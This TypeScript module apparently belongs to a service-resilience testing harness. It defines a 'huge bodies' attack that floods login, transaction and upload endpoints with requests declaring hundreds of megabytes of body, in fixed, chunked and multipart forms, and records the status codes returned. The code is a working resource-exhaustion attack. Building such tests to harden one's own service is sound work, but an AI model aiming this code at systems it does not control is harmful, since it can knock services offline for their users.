import { type Attack, head, open, type Target } from './attack';
import { paced } from './paced';

const MIB = Buffer.alloc(1024 ** 2, 'a');
const MOST_MIB = 60;

const BEGINNINGS: ((target: Target) => string)[] = [
  () => head('POST /api/auth/login', { 'content-type': 'application/json', 'content-length': 900_000_000 }),
  () => `${head('POST /api/transactions', { 'content-type': 'application/json', 'transfer-encoding': 'chunked' })}`,
  () =>
    head('POST /api/documents/upload', {
      'content-type': 'multipart/form-data; boundary=x',
      'content-length': 52_000_000,
    }),
  ({ account }) =>
    head('POST /api/vault/upload', {
      'content-type': 'multipart/form-data; boundary=x',
      'content-length': 52_000_000,
      authorization: `Bearer ${account.token}`,
    }),
  () => head('GET /nowhere', { 'content-length': 900_000_000 }),
];

/** Bodies of hundreds of megabytes, sent as fast as they are taken: measured, in chunks, and where none belongs. */
export const hugeBodies: Attack = {
  name: 'huge bodies',
  run: (target, note, signal) =>
    paced(target, signal, async (address, count) => {
      const begin = BEGINNINGS[count % BEGINNINGS.length]!(target);
      const { socket, answered } = open(target, address, begin, signal);
      const isChunked = begin.includes('chunked');
      let sent = 0;
      const pour = () => {
        while (socket.writable && sent++ < MOST_MIB) {
          if (isChunked) socket.write(`${MIB.length.toString(16)}\r\n`);
          if (!socket.write(MIB)) return;
        }
        if (isChunked && socket.writable) socket.write('\r\n');
      };
      socket.on('drain', pour);
      pour();
      const status = await answered;
      if (!signal.aborted) note(status);
    }),
};
